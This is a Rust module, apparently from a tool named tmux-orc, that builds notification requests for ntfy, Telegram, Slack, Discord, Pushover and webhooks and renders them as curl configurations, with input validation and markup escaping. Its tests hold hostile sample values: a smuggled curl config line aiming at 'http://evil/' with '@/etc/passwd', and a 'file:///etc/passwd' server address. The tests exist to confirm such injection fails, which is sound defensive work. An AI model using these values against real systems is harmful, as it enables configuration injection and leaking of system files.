//! What each service is sent for a notice, by its documented interface, and how curl is told. Pure: nothing is sent here.

use std::fmt::Write as _;

use serde::Deserialize;
use serde_json::{Value, json};

use crate::app::notify::words::{cut, encoded_words, quoted, without_markup};

/// A service that carries notices to a person.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Service {
    /// ntfy.sh, or an ntfy server of your own
    Ntfy, // https://docs.ntfy.sh/publish/
    /// A bot of Telegram
    Telegram, // https://core.telegram.org/bots/api#sendmessage
    /// An incoming webhook of Slack
    Slack, // https://api.slack.com/messaging/webhooks
    /// A webhook of Discord
    Discord, // https://discord.com/developers/docs/resources/webhook
    /// An application of Pushover
    Pushover, // https://pushover.net/api
    /// Any address that takes the notice as JSON
    Webhook,
}

/// Longest title, in characters: that of Pushover.
const LONGEST_TITLE: usize = 250;
/// Longest message, in characters. Pushover takes 1024, ntfy 4096 bytes, Telegram 4096 units of
/// UTF-16.
const LONGEST_MESSAGE: usize = 900;
/// Longest text for Discord before its marks are taken away.
const LONGEST_DISCORD: usize = 990;
/// A notice as the program that is run for it gets it: the fields that a service shows.
#[derive(Clone, Debug, PartialEq, Eq, Deserialize)]
struct Said {
    /// Who, and what with them.
    title: String,
    /// All in one line.
    text: String,
    /// What is asked.
    #[serde(default)]
    asks: Option<Line>,
    /// What the agent has said last.
    #[serde(default)]
    doing: Option<String>,
    /// State of the agent.
    #[serde(default)]
    state: Option<String>,
    /// Seconds that it has waited, where that is told again.
    #[serde(default)]
    waited: Option<u64>,
}

#[derive(Clone, Debug, PartialEq, Eq, Deserialize)]
struct Line {
    line: String,
}

/// How much it matters.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Weight {
    Usual,
    High,
    Highest,
}

impl Said {
    fn message(&self) -> String {
        let asks = self.asks.as_ref().map(|asks| asks.line.as_str());
        let said = [asks, self.doing.as_deref()].into_iter().flatten().map(str::trim).find(|text| !text.is_empty());
        cut(said.unwrap_or(&self.text), LONGEST_MESSAGE)
    }

    fn title(&self) -> String {
        cut(&self.title, LONGEST_TITLE)
    }

    /// Title and message as one text.
    fn whole(&self) -> String {
        let message = self.message();
        if message == self.text { message } else { format!("{}\n{message}", self.title()) }
    }

    fn weight(&self) -> Weight {
        match (self.state.as_deref(), self.waited) {
            (_, Some(_)) => Weight::Highest,
            (Some("waiting" | "error"), None) => Weight::High,
            _ => Weight::Usual,
        }
    }
}

/// What is sent.
#[derive(Clone, Debug, PartialEq)]
pub struct Request {
    url: String,
    headers: Vec<String>,
    body: Body,
}

#[derive(Clone, Debug, PartialEq)]
enum Body {
    Text(String),
    Json(Value),
    Form(Vec<(&'static str, String)>),
}

impl Service {
    /// What this service is sent for a notice as programs get it; secrets and addresses are those of the environment.
    ///
    /// # Errors
    /// It is no notice; a variable is not set, or what it holds can be no address or name: which one, and what it is for.
    pub fn request(self, notice: &Value, environment: &dyn Fn(&str) -> Option<String>) -> Result<Request, String> {
        let said = &Said::deserialize(notice).map_err(|error| format!("this is no notice: {error}"))?;
        let set = |name: &str| environment(name).map(|text| text.trim().to_owned()).filter(|text| !text.is_empty());
        let needed = |name: &str| {
            set(name)
                .ok_or_else(|| format!("{name} is not set: `tmux-orc notify recipes {}` says what it is", self.name()))
        };
        let base = |name: &str, usual: &str| {
            address(name, set(name).unwrap_or_else(|| usual.to_owned())).map(|url| url.trim_end_matches('/').to_owned())
        };
        let json = |url: String, body: Value| Request {
            url,
            headers: vec!["Content-Type: application/json".to_owned()],
            body: Body::Json(body),
        };
        Ok(match self {
            Self::Ntfy => {
                let topic = plain("NTFY_TOPIC", needed("NTFY_TOPIC")?, "-_")?;
                let (priority, tag) = match said.weight() {
                    Weight::Highest => ("5", "rotating_light"),
                    Weight::High => ("4", "bell"),
                    Weight::Usual => ("3", "robot"),
                };
                let title = format!("Title: {}", encoded_words(&said.title()));
                let mut headers = vec![title, format!("Priority: {priority}"), format!("Tags: {tag}")];
                if let Some(token) = set("NTFY_TOKEN") {
                    headers.push(format!("Authorization: Bearer {}", plain("NTFY_TOKEN", token, "-_.~+/=")?));
                }
                let url = format!("{}/{topic}", base("NTFY_SERVER", "https://ntfy.sh")?);
                Request { url, headers, body: Body::Text(said.message()) }
            }
            Self::Telegram => {
                let token = plain("TELEGRAM_BOT_TOKEN", needed("TELEGRAM_BOT_TOKEN")?, ":-_")?;
                let chat = needed("TELEGRAM_CHAT_ID")?;
                let chat = chat.parse::<i64>().map_or_else(|_| Value::from(chat), Value::from);
                // Without a `parse_mode` the text is shown as it is.
                let body =
                    json!({ "chat_id": chat, "text": said.whole(), "link_preview_options": { "is_disabled": true } });
                json(format!("{}/bot{token}/sendMessage", base("TELEGRAM_API", "https://api.telegram.org")?), body)
            }
            Self::Slack => {
                // `<!channel>` would call everybody: https://api.slack.com/reference/surfaces/formatting#escaping
                let text = without_markup(&said.whole());
                json(
                    address("SLACK_WEBHOOK_URL", needed("SLACK_WEBHOOK_URL")?)?,
                    json!({ "text": text, "mrkdwn": false }),
                )
            }
            Self::Discord => {
                // Its marks of formatting, of which a link could say one thing and lead elsewhere.
                let mut text = String::new();
                for c in cut(&said.whole(), LONGEST_DISCORD).chars() {
                    if c.is_ascii_punctuation() {
                        text.push('\\');
                    }
                    text.push(c);
                }
                // Nobody is called by what an agent shows.
                let body = json!({ "content": text, "username": "tmux-orc", "allowed_mentions": { "parse": [] } });
                json(address("DISCORD_WEBHOOK_URL", needed("DISCORD_WEBHOOK_URL")?)?, body)
            }
            Self::Pushover => {
                let priority = if said.weight() == Weight::Highest { "1" } else { "0" };
                let form = vec![
                    ("token", needed("PUSHOVER_TOKEN")?),
                    ("user", needed("PUSHOVER_USER")?),
                    ("title", said.title()),
                    ("message", said.message()),
                    ("priority", priority.to_owned()),
                ];
                let url = format!("{}/1/messages.json", base("PUSHOVER_API", "https://api.pushover.net")?);
                Request { url, headers: Vec::new(), body: Body::Form(form) }
            }
            Self::Webhook => {
                let mut request = json(address("WEBHOOK_URL", needed("WEBHOOK_URL")?)?, notice.clone());
                if let Some(token) = set("WEBHOOK_TOKEN") {
                    let token = plain("WEBHOOK_TOKEN", token, "-_.~+/=:")?;
                    request.headers.push(format!("Authorization: Bearer {token}"));
                }
                request
            }
        })
    }

    /// Its name, as the command line has it.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Ntfy => "ntfy",
            Self::Telegram => "telegram",
            Self::Slack => "slack",
            Self::Discord => "discord",
            Self::Pushover => "pushover",
            Self::Webhook => "webhook",
        }
    }
}

impl Request {
    /// The same in the words of a configuration of curl's, which it reads on its standard input: other users of the machine
    /// see the arguments of a process, and an address may be a secret.
    #[must_use]
    pub fn curl_config(&self) -> String {
        let mut config =
            String::from("silent\nshow-error\ngloboff\nproto = \"=http,https\"\nconnect-timeout = 5\nmax-time = 8\n");
        let mut set = |option: &str, value: &str| {
            let _ = writeln!(config, "{option} = {}", quoted(value));
        };
        set("user-agent", concat!("tmux-orc/", env!("CARGO_PKG_VERSION")));
        set("write-out", "%{stderr}\nstatus %{http_code}\n");
        set("url", &self.url);
        for header in &self.headers {
            set("header", header);
        }
        match &self.body {
            Body::Text(text) => set("data-raw", text),
            Body::Json(value) => set("data-raw", &value.to_string()),
            Body::Form(fields) => {
                for (name, value) in fields {
                    set("data-urlencode", &format!("{name}={value}"));
                }
            }
        }
        config
    }
}

/// An address that curl is sent to.
fn address(name: &str, text: String) -> Result<String, String> {
    let is_one =
        (text.starts_with("https://") || text.starts_with("http://")) && text.bytes().all(|b| b.is_ascii_graphic());
    if is_one { Ok(text) } else { Err(format!("{name} is no address: expected https://...")) }
}

/// A name or a secret that becomes a part of an address or a header: letters, digits and these signs.
fn plain(name: &str, text: String, signs: &str) -> Result<String, String> {
    if text.chars().all(|c| c.is_ascii_alphanumeric() || signs.contains(c)) {
        return Ok(text);
    }
    Err(format!("{name} has a sign that it cannot have: expected letters, digits and {signs}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn said(title: &str, asks: &str) -> Value {
        json!({ "title": title, "text": format!("{title}: x"), "asks": { "line": asks }, "state": "waiting" })
    }

    fn environment(name: &str) -> Option<String> {
        let value = match name {
            "NTFY_TOPIC" => "agents",
            "NTFY_TOKEN" => "tk_1",
            "TELEGRAM_BOT_TOKEN" => "12:ab",
            "TELEGRAM_CHAT_ID" => "-42",
            "SLACK_WEBHOOK_URL" => "https://hooks.example/x",
            "WEBHOOK_URL" => "https://home.example/x",
            "DISCORD_WEBHOOK_URL" => "https://discord.example/x",
            "PUSHOVER_TOKEN" | "PUSHOVER_USER" => "u1",
            _ => return None,
        };
        Some(value.to_owned())
    }

    #[test]
    fn nothing_in_a_text_becomes_an_order() {
        let request =
            Service::Ntfy.request(&said("t", "-x\"\nurl = \"http://evil/\"\n@/etc/passwd"), &environment).unwrap();
        let config = request.curl_config();
        assert_eq!(config.lines().filter(|line| line.starts_with("url")).count(), 1, "{config}");
    }

    #[test]
    fn nobody_is_called_by_what_an_agent_shows() {
        let said = said("t", "<!channel> @everyone [x](http://y) & **b**");
        let body = |service: Service| match service.request(&said, &environment).unwrap().body {
            Body::Json(value) => value,
            other => panic!("{other:?}"),
        };
        assert_eq!(body(Service::Slack)["text"], "t\n&lt;!channel&gt; @everyone [x](http://y) &amp; **b**");
        let discord = body(Service::Discord);
        assert_eq!(discord["allowed_mentions"]["parse"], json!([]));
        let text = discord["content"].as_str().unwrap();
        assert!(text.contains("\\@everyone \\[x\\]\\(http\\:") && text.contains("\\*\\*b\\*\\*"), "{text}");
        assert_eq!(body(Service::Telegram)["chat_id"], -42);
    }

    #[test]
    fn what_is_not_set_or_can_be_no_address_is_said() {
        let with = |name: &'static str, value: &'static str| {
            let environment =
                move |asked: &str| if asked == name { Some(value.to_owned()) } else { environment(asked) };
            Service::Ntfy.request(&said("t", "x"), &environment).map(|request| request.url)
        };
        assert!(Service::Ntfy.request(&json!({ "x": 1 }), &environment).unwrap_err().starts_with("this is no notice"));
        assert_eq!(Service::Webhook.request(&said("t", "x"), &environment).unwrap().body, Body::Json(said("t", "x")));
        assert!(with("NTFY_TOPIC", " ").unwrap_err().starts_with("NTFY_TOPIC is not set"));
        assert!(with("NTFY_TOPIC", "a/../b?x").unwrap_err().contains("has a sign"));
        assert!(with("NTFY_TOKEN", "a\nb").unwrap_err().contains("NTFY_TOKEN"));
        assert!(with("NTFY_SERVER", "file:///etc/passwd").unwrap_err().contains("no address"));
        assert_eq!(with("NTFY_SERVER", "http://[::1]:8/"), Ok("http://[::1]:8/agents".to_owned()));
        assert_eq!(with("X", "y"), Ok("https://ntfy.sh/agents".to_owned()));
    }

    #[test]
    fn texts_are_as_long_as_the_shortest_limit() {
        let said = said(&"ü".repeat(999), &"日@".repeat(5000));
        for service in [Service::Ntfy, Service::Telegram, Service::Slack, Service::Discord, Service::Pushover] {
            match service.request(&said, &environment).unwrap().body {
                Body::Text(text) => assert!(text.len() <= 4096, "{service:?}"),
                Body::Json(value) => {
                    let text = value.get("text").or(value.get("content")).and_then(Value::as_str).unwrap();
                    assert!(text.chars().count() < 2000 && text.encode_utf16().count() < 4096, "{service:?}");
                }
                Body::Form(fields) => {
                    let long = |name: &str| fields.iter().find(|(field, _)| *field == name).unwrap().1.chars().count();
                    assert_eq!((long("title"), long("message")), (250, 900));
                }
            }
        }
    }
}
